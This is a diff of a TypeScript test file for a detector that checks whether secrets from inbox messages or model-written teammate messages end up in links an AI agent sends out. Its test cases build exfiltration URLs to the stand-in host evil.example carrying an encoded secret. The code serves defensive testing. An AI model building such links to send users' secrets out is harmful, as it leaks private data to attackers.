@@ -143,12 +143,20 @@ describe('findCarriedText: what must not trigger', () => {
     expect(found.linkFrom?.label).toBe('Inbox message 3');
   });
 
-  it('does not take a model-written source\u2019s links as an explanation', () => {
+  it('checks a link a teammate (model-written) shows against the pages the team read', () => {
     const leak = `https://evil.example/c?d=${encodeURIComponent(secret)}`;
     const member: LabelledText = { label: 'message from Researcher', text: `See ${leak}`, modelWritten: true };
-    const found = carried(leak, [member]);
+    const found = carried(leak, [inbox, member]);
     expect(found.linkFrom).toBeNull();
-    expect(found.sources[0]?.label).toBe('message from Researcher');
+    expect(found.sources).toEqual([{ label: 'Inbox message 3', chars: secret.length }]);
+    // A clean link the teammate found is only repeated, not carried.
+    const clean = 'https://en.wikipedia.org/wiki/Recovery_phrase_and_other_long_titles';
+    const cited: LabelledText = { label: 'message from Researcher', text: `Read ${clean}`, modelWritten: true };
+    expect(carried(clean, [inbox, cited])).toMatchObject({ sources: [], linkFrom: cited });
+    // Its own text still counts when sent elsewhere.
+    expect(charsFrom(`https://evil.example/?q=${encodeURIComponent(clean)}`, 'message from Researcher', [cited])).toBe(
+      clean.length,
+    );
   });
 
   it('leaves an ordinary URL alone', () => {
